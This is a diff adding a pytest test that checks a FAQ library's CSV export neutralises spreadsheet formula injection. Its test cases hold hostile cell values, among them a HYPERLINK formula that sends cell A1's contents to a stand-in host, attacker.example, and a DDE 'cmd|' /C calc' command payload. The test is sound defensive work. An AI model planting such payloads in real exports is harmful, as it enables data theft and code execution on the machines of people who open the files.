@@ -75,6 +75,26 @@ class TestRoundTrip:
 
 class TestCsvCells:
     @pytest.mark.parametrize(
+        "fields",
+        [
+            {"question": '=HYPERLINK("https://attacker.example/?"&A1,"詳しくはこちら")'},
+            {"answer": "+1+cmd|' /C calc'!A0"},
+            {"answer": "-2+3 が手数料です。"},
+            {"alternates": ["@SUM(1+1)*cmd", "言い換えその2"]},
+            {"answer": "\t=1+1 タブで始まる回答"},
+            {"answer": "\r=1+1 CRで始まる回答"},
+            {"answer": "'=1+1 引用符で始まる回答"},
+            {"keywords": ["=1+1"]},
+        ],
+    )
+    def test_item16_csv_export_escapes_cells_a_spreadsheet_would_run(self, fields: dict[str, Any]) -> None:
+        document = FaqDocument.model_validate(ENTRY | fields)
+        data = formats.dump([document], Format.CSV, FaqDocument)
+        _, row = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+        assert [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+        assert formats.parse(data, Format.CSV, FaqDocument) == [document]
+
+    @pytest.mark.parametrize(
         ("cell", "expected"),
         [
             ("言い換えその1\n言い換えその2", ["言い換えその1", "言い換えその2"]),
